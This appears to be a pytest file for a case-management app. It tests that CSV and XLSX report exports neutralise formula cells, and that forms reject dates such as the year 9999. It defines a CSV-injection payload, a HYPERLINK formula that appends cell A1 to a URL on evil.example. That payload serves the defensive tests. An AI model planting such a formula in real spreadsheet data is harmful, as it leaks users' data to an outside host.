"""Spreadsheet cells from data are never formulas; dates people type are bounded."""

import csv
import io

import openpyxl
import pytest
from openpyxl import Workbook

from coalition.spreadsheets import SafeCsvWriter, neutralise, neutralise_workbook
from tests.cases.conftest import open_case

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
PERIOD = {"start": "2026-01-01", "end": "2026-03-31"}


@pytest.mark.parametrize("text", ["=1+1", "+92300", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_a_text_that_a_spreadsheet_would_run_is_written_as_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Sahil", "", 12, -3, None, "a=b"])
def test_other_values_are_written_as_they_are(value):
    assert neutralise(value) == value


def test_the_csv_writer_neutralises_every_cell():
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows([[HOSTILE, 3], ["ok", "-1"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["'" + HOSTILE, "3"],
        ["ok", "'-1"],
    ]


def test_a_workbook_keeps_no_formula_from_data():
    workbook = Workbook()
    workbook.active.append([HOSTILE, 5])
    neutralise_workbook(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    cell = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert (cell.value, cell.data_type) == ("'" + HOSTILE, "s")


@pytest.fixture
def hostile_org(org_a):
    org_a.name = HOSTILE
    org_a.save(update_fields=["name"])
    return org_a


def test_an_organisation_named_as_a_formula_exports_as_text(as_user, supervisor_a, hostile_org):
    client = as_user(supervisor_a)
    rows = list(
        csv.reader(
            io.StringIO(client.get("/reports/export/csv/", PERIOD).content.decode("utf-8-sig"))
        )
    )
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith("=") for cell in cells)
    assert any(HOSTILE in cell for cell in cells)
    xlsx = client.get("/reports/export/xlsx/", PERIOD).content
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx))
    values = [c.value for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
    assert any(isinstance(v, str) and HOSTILE in v for v in values)


def test_a_report_period_ending_in_the_year_9999_is_a_form_error(as_user, supervisor_a):
    # A report covers a calendar month, quarter or year: a day range or the year 9999 is a
    # message on the form, never a server error.
    client = as_user(supervisor_a)
    days = client.get("/reports/", {"start": "2026-01-01", "end": "9999-12-31"})
    assert days.status_code == 200 and b"not chosen days" in days.content
    year = client.get("/reports/", {"year": "9999", "part": "year"})
    assert year.status_code == 200 and b"Choose a year from 2010" in year.content


def test_a_follow_up_in_the_year_9999_is_refused_with_a_message(as_user, caseworker_a):
    case = open_case(caseworker_a, full_name="Date Person")
    client = as_user(caseworker_a)
    response = client.post(
        f"/cases/{case.pk}/follow-up/", {"next_follow_up": "9999-12-31"}, follow=True
    )
    assert response.status_code == 200
    assert b"Enter a valid date" in response.content
    case.refresh_from_db()
    assert case.next_follow_up is None


def test_a_hearing_before_1900_is_a_form_error(db):
    from cases.forms import HearingForm

    form = HearingForm({"date": "1850-01-01", "purpose": "x"})
    assert not form.is_valid()
    assert "between the years 1900 and 2100" in str(form.errors["date"])
